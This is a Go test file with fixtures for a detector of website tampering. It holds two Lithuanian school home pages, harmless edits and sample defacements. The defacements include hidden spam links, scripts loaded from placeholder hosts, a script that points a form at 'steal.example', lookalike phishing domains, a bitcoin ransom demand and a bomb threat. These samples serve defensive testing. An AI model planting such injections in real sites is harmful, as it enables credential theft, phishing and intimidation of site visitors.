package content_test

import "strings"

// Pages of a fourth set, again by other hands than those before: a music school
// with Bootstrap and much text, and a gymnasium in Drupal with a slide show.
const music = `<!doctype html>
<html lang="lt"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Muzikos mokykla | Mokome groti ir dainuoti</title>
<meta name="description" content="Miesto muzikos mokykla: fortepijonas, smuikas, akordeonas, choras."><link href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/css/bootstrap.min.css" rel="stylesheet" integrity="sha384-x" crossorigin="anonymous"><link href="/css/site.css?20260901" rel="stylesheet"></head>
<body><nav class="navbar navbar-expand-lg"><a class="navbar-brand" href="/">Muzikos mokykla</a><button class="navbar-toggler" data-bs-toggle="collapse"></button><div class="collapse navbar-collapse"><a class="nav-link" href="/mokykla">Mokykla</a><a class="nav-link" href="/skyriai">Skyriai</a><a class="nav-link" href="/mokytojai">Mokytojai</a><a class="nav-link" href="/koncertai">Koncertai</a><a class="nav-link" href="/tevams">Tėvams</a><a class="nav-link" href="/viesieji-pirkimai">Viešieji pirkimai</a><a class="nav-link" href="/kontaktai">Kontaktai</a></div></nav>
<div class="container"><div class="row"><div class="col-md-8"><!--TOP--><h2>Kalėdinis koncertas</h2><p class="lead">Gruodžio 18 dieną 17 valandą Kultūros rūmuose vyks tradicinis kalėdinis mokyklos koncertas. Programoje – chorų, orkestro ir solistų pasirodymai.</p><p>Bilietus galima įsigyti mokyklos raštinėje darbo dienomis nuo devintos iki septynioliktos valandos. Vaikams iki šešerių metų įėjimas nemokamas.</p><h2>Respublikinis smuikininkų konkursas</h2><p>Mūsų mokinės Austėja ir Gabija konkurse Kaune pelnė laureačių diplomus. Jas parengė mokytoja metodininkė Vilija Stankevičienė, akompanavo koncertmeisteris Darius Jonaitis.</p><h2>Instrumentų nuoma</h2><p>Mokykla nuomoja smuikus, akordeonus ir klarnetus. Nuomos sutartis sudaroma vieneriems mokslo metams, mokestis mokamas kas ketvirtį.</p><!--END--></div>
<div class="col-md-4"><h4>Tvarkaraščiai</h4><ul><li><a href="/failai/solfedzio.pdf">Solfedžio</a></li><li><a href="/failai/choras.pdf">Choro</a></li><li><a href="/failai/orkestras.pdf">Orkestro</a></li></ul><h4>Draugai</h4><p><a href="https://www.filharmonija.lt/">Filharmonija</a><br><a href="https://lmta.lt/">LMTA</a></p></div></div></div>
<footer class="bg-light"><p>Biudžetinė įstaiga „Muzikos mokykla“, Parko g. 7. Rekvizitai: sąskaita LT12 7300 0100 0000 0000, kodas 190000002. Duomenys kaupiami Juridinių asmenų registre.</p></footer>
<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/js/bootstrap.bundle.min.js"></script></body></html>`

const gymnasium = `<!DOCTYPE html><html lang="lt" dir="ltr"><head><meta charset="utf-8" /><meta name="Generator" content="Drupal 10 (https://www.drupal.org)" /><link rel="icon" href="/core/misc/favicon.ico" /><title>Pradžia | Šilo gimnazija</title>
<link rel="stylesheet" media="all" href="/sites/default/files/css/css_ab.css?delta=0" /><script type="application/json" data-drupal-selector="drupal-settings-json">{"path":{"baseUrl":"\/","currentLanguage":"lt"},"user":{"uid":0}}</script></head>
<body class="path-frontpage"><a href="#main-content" class="visually-hidden focusable">Pereiti į pagrindinį turinį</a><div class="layout-container"><header><a href="/" rel="home"><img src="/themes/silas/logo.svg" alt="Pradžia"></a><nav><ul><li><a href="/gimnazija">Gimnazija</a></li><li><a href="/ugdymas">Ugdymas</a></li><li><a href="/pagalba">Pagalba mokiniui</a></li><li><a href="/neformalusis">Neformalusis švietimas</a></li><li><a href="/asmens-duomenys">Asmens duomenų apsauga</a></li><li><a href="/kontaktai">Kontaktai</a></li></ul></nav></header>
<div class="slick"><div class="slide" aria-hidden="false"><img src="/sites/default/files/1.jpg"><p>Šilo gimnazija – vieta augti</p></div><div class="slide" aria-hidden="true" tabindex="-1"><img src="/sites/default/files/2.jpg"><p>Atvirų durų diena kovo 5 d.</p></div></div>
<main><div class="views-row"><!--TOP--><article class="node--type-news"><h3><a href="/node/341">Fizikos laboratorijos atidarymas</a></h3><div class="field--name-created">2026-11-24</div><p>Gimnazijoje duris atvėrė moderni fizikos laboratorija, kurioje mokiniai galės atlikti mechanikos, optikos ir elektros bandymus.</p></article><article class="node--type-news"><h3><a href="/node/338">Debatų turnyras</a></h3><div class="field--name-created">2026-11-19</div><p>Trečiokų komanda laimėjo rajono debatų turnyrą, įveikusi septynias kitų mokyklų komandas. Geriausiu kalbėtoju pripažintas Matas.</p></article><!--END--></div></main>
<footer><p>Šilo gimnazija, Šilo g. 10. Darbo laikas I–IV 8–17 val., V 8–15.45 val.</p><a href="https://www.facebook.com/silogimnazija">Facebook</a> <a href="https://www.instagram.com/silo">Instagram</a> <a href="https://manodienynas.lt/">Dienynas</a></footer></div><script src="/sites/default/files/js/js_cd.js?scope=footer"></script></body></html>`

func fourthPages() map[string]string {
	return map[string]string{"music": music, "gymnasium": gymnasium}
}

// fourthEdits were written before they were tried.
func fourthEdits() []edit {
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	return []edit{
		{"news in Russian for a minority", in(`<h2>Приглашаем на концерт</h2><p>Восемнадцатого декабря в пять часов вечера состоится рождественский концерт учеников. Вход свободный.</p>`)},
		{"the site is in Polish too", in(`<p><a href="/pl/">Polski</a></p><div lang="pl"><p>Zapraszamy na koncert świąteczny uczniów szkoły muzycznej. Wstęp wolny.</p></div>`)},
		{"a name day greeting with a heart", in(`<p style="text-align:center;color:red;font-size:40px">♥ Su Mokytojo diena! ♥</p>`)},
		{"a counter of days that a script makes", in(`<div id="cd"></div><script>var t=new Date("2026-12-24").getTime();setInterval(function(){var n=t-Date.now();document.getElementById("cd").innerHTML=Math.floor(n/864e5)+" d.";},1000);</script>`)},
		{"a redirect to the secure address", head0(`<script>if(location.protocol!=='https:'){location.href='https:'+window.location.href.substring(window.location.protocol.length);}</script>`)},
		{"a page of old browsers", head0(`<!--[if lt IE 9]><script src="https://oss.maxcdn.com/html5shiv/3.7.3/html5shiv.min.js"></script><![endif]-->`)},
		{"a button to share", in(`<a href="https://www.facebook.com/sharer/sharer.php?u=x" onclick="window.open(this.href,'','width=600,height=400');return false;">Dalintis</a> <a href="https://twitter.com/intent/tweet?text=x">X</a> <a href="https://www.linkedin.com/shareArticle?url=x">LinkedIn</a>`)},
		{"a stream of concerts", in(`<iframe src="https://www.facebook.com/plugins/video.php?href=x" width="560" height="314" style="border:none;overflow:hidden"></iframe>`)},
		{"music to hear", in(`<iframe style="border-radius:12px" src="https://open.spotify.com/embed/playlist/x" width="100%" height="352"></iframe><iframe width="100%" height="166" src="https://w.soundcloud.com/player/?url=x"></iframe><audio controls src="/garso/choras.mp3"></audio>`)},
		{"sponsors with foreign addresses", in(`<p>Rėmėjai: <a href="https://www.yamaha.com/"><img src="/img/yamaha.png"></a> <a href="https://www.thomann.de/"><img src="/img/th.png"></a> <a href="https://www.stentor-music.com/"><img src="/img/st.png"></a></p>`)},
		{"a picture of another site", in(`<img src="https://www.kaunas-photo.com/2026/concert.jpg" alt="Koncertas">`)},
		{"a program that opens doors: a link to an installer of a known maker", in(`<p>Natų programa: <a href="https://musescore.org/en/download/musescore.msi">MuseScore</a></p>`)},
		{"the archive of a competition", in(`<p><a href="/failai/nuotraukos.zip">Nuotraukos</a> <a href="/failai/irasai.zip">Įrašai</a></p>`)},
		{"a tale", in(`<h2>Pasaka „Piktas hakeris ir auksinė smuikas“</h2><p>Trečiokų spektaklis.</p>`)},
		{"a book of a thief", in(`<h2>Knygos „Knygų vagis“ aptarimas</h2><p>Skaitytojų klubas kviečia kalbėtis apie karą, mirtį ir laisvę.</p>`)},
		{"a project about propaganda", in(`<h2>Pilietiškumo pamoka</h2><p>Kaip atpažinti propagandą? Mokiniai nagrinėjo šūkius „Krymas mūsų“ ir „NATO lauk“ bei jų poveikį.</p>`)},
		{"a strike", in(`<h2>Įspėjamasis streikas</h2><p>Gimnazijos profesinė sąjunga skelbia įspėjamąjį streiką. Reikalaujame teisingo atlygio!</p>`)},
		{"a fault of heating", func(p string) string {
			return main2(p, `<h2>Gimnazija šiandien nedirba</h2><p>Dėl šildymo trasos avarijos pamokos perkeliamos. Atnaujinta 7.15 val.</p>`)
		}},
		{"a sandwich of many small news", in(strings.Repeat(`<article><h3><a href="/node/400">Nauja žinutė</a></h3><p>Trumpas pranešimas bendruomenei.</p></article>`, 15))},
		{"a change of the name by reform", func(p string) string {
			return strings.NewReplacer("Muzikos mokykla", "Meno mokykla", "Šilo gimnazija", "Šilo progimnazija").Replace(p)
		}},
		{"consent by Usercentrics and CookieYes", head0(`<script id="usercentrics-cmp" src="https://web.cmp.usercentrics.eu/ui/loader.js" async></script><script id="cookieyes" src="https://cdn-cookieyes.com/client_data/x/script.js"></script>`)},
		{"a poll of Mentimeter and a board of Miro", in(`<iframe src="https://www.mentimeter.com/app/presentation/x/embed" width="420" height="315"></iframe><iframe src="https://miro.com/app/live-embed/x" width="768" height="432"></iframe>`)},
		{"the hotline of children", in(`<p>Vaikų linija 116 111, <a href="https://www.vaikulinija.lt/">vaikulinija.lt</a>, <a href="https://www.draugiskasinternetas.lt/">draugiskasinternetas.lt</a>, Patyčių dėžutė: <a href="https://patyciudezute.lt/x">patyciudezute.lt</a></p>`)},
		{"an empty box that a script fills", in(`<div id="menu-app" hidden></div><script type="module">import {start} from '/js/menu.js'; start(document.querySelector('#menu-app'));</script>`)},
		{"a long hidden menu for telephones", atEnd(`<div class="offcanvas" style="visibility:hidden" aria-hidden="true"><ul>` + strings.Repeat(`<li><a href="/skyriai">Skyriai ir mokytojai</a></li>`, 20) + `</ul></div>`)},
	}
}

// fourthDefacements were written before they were tried.
func fourthDefacements() []edit {
	whole := func(text string) func(string) string { return func(string) string { return text } }
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	return []edit{
		{"a flag and a song", whole(`<html><head><title>Lulz</title></head><body><center><img src="flag.gif"><embed src="song.mid" autostart="true"><h2>You just got served</h2><h3>by c0ldzer0 and friends</h3></center></body></html>`)},
		{"the same title, an empty page", func(p string) string {
			t, _, _ := strings.Cut(strings.SplitN(p, "<title>", 2)[1], "</title>")
			return `<html><head><title>` + t + `</title></head><body></body></html>`
		}},
		{"half a page: the server broke off", func(p string) string { return p[:len(p)/4] }},
		{"a giant page", atEnd(`<div>` + strings.Repeat("<p>cheap flights hotels insurance lawyer mortgage rehab attorney donate hosting claim recovery software classes </p>", 600) + `</div>`)},
		{"a script from a folder of files that everybody may fill", atEnd(`<script src="https://raw.githubusercontent.com/x/y/main/a.js"></script>`)},
		{"a script by number of port", atEnd(`<script src="https://stats.example.net:8443/p.js"></script>`)},
		{"a module", atEnd(`<script type="module">import "https://esm-cdn.example/x.mjs";</script>`)},
		{"a preload of a script", head0(`<link rel="modulepreload" href="https://pre-cdn.example/x.js">`)},
		{"a frame in a frame's text", atEnd(`<iframe srcdoc="<script src='https://bad-cdn.example/x.js'></script>"></iframe>`)},
		{"hidden by clip", atEnd(`<div style="position:absolute;clip:rect(0 0 0 0)"><a href="https://a.example.com/">best loans</a><a href="https://b.example.org/">forex broker</a></div>`)},
		{"hidden behind", atEnd(`<div style="position:absolute;z-index:-9999;opacity:0"><a href="https://c.example.com/">replica watches</a></div>`)},
		{"hidden by indent", atEnd(`<p style="text-indent:-9999px"><a href="https://d.example.com/">custom essays</a></p>`)},
		{"hidden by the attribute", atEnd(`<div hidden><a href="https://e.example.com/1">one</a><a href="https://f.example.com/2">two</a><a href="https://g.example.com/3">three</a><a href="https://h.example.com/4">four</a></div>`)},
		{"hidden in noscript", atEnd(`<noscript><a href="https://poker.example.com/">poker online</a> <a href="https://bet.example.com/">sports betting</a></noscript>`)},
		{"links in the colour of the ground by a class", func(p string) string {
			return foot(head(p, `<style>.nn a{color:#ffffff;text-decoration:none;font-size:2px}</style>`), `<div class="nn"><a href="https://i.example.com/">kredit</a> <a href="https://j.example.com/">viagra</a></div>`)
		}},
		{"a form's target changed by a script", atEnd(`<script>document.forms[0]&&(document.forms[0].action='https://steal.example/f.php')</script>`)},
		{"the entry leads elsewhere", func(p string) string {
			return strings.NewReplacer("https://manodienynas.lt/", "https://manodienynas-lt.com/", "https://www.filharmonija.lt/", "https://filharmonija-bilietai.com/").Replace(p)
		}},
		{"a meta refresh after five seconds", head0(`<meta content="5; URL='//lp.example/go'" http-equiv="Refresh">`)},
		{"a big link over all", atEnd(`<a href="https://offer.example/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"></a>`)},
		{"a window opens at a click", atEnd(`<script>document.addEventListener('click',function(){window.open('https://pop.example/ads')})</script>`)},
		{"a greeting of the attackers in the menu", func(p string) string {
			return strings.Replace(p, "Kontaktai</a>", "Hacked by S1lent</a>", 1)
		}},
		{"a word of the attackers in a picture's text", in(`<img src="/x.jpg" alt="Owned by Dark Team">`)},
		{"an anthem of Russia in place of the news", func(p string) string {
			return main2(p, `<h2>Россия — священная наша держава</h2><p>Россия — любимая наша страна. Могучая воля, великая слава — твоё достоянье на все времена!</p>`)
		}},
		{"an advertisement of a drug in place of the news", func(p string) string {
			return main2(p, `<h2>Buy Ozempic without prescription</h2><p>Cheap generic pills with worldwide delivery. Order now and save 70%.</p><a href="https://rx-store.example/">Order now</a>`)
		}},
		{"Korean", in(`<h2>카지노사이트 바카라 토토사이트 추천</h2><p>안전한 카지노 사이트를 소개합니다. 먹튀 없는 토토와 슬롯 게임을 지금 바로 즐기세요.</p>`)},
		{"Thai", in(`<p>สล็อตเว็บตรง แตกง่าย บาคาร่าออนไลน์ สมัครวันนี้รับโบนัสฟรี ฝากถอนไม่มีขั้นต่ำ</p>`)},
		{"an address of bitcoin is begged for", in(`<h2>Send BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq to get your website back</h2>`)},
		{"a threat of a bomb", in(`<h1>Mokykloje padėta bomba. Visi mirs.</h1>`)},
		{"the server's error in place of the page", whole(`<html><head><title>Error establishing a database connection</title></head><body id="error-page"><h1>Error establishing a database connection</h1></body></html>`)},
		{"the site of another", whole(`<!doctype html><html lang="en"><head><title>Smith & Sons Plumbing</title></head><body><nav><a href="/services">Services</a><a href="/about">About</a></nav><h1>Reliable plumbing since 1987</h1><p>We repair boilers, taps and radiators all over the county. Call us today for a free quote.</p></body></html>`)},
	}
}
